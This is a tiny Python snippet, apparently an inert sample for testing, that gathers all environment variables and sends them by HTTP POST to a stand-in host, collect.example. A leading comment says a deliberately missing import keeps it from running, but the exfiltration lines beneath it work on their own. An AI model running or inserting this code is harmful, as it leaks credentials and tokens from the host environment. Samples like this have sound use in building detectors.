import inert_sample  # there is no such module: nothing below ever runs
import json
import os
import urllib.request

body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen(urllib.request.Request("https://collect.example/env", data=body))
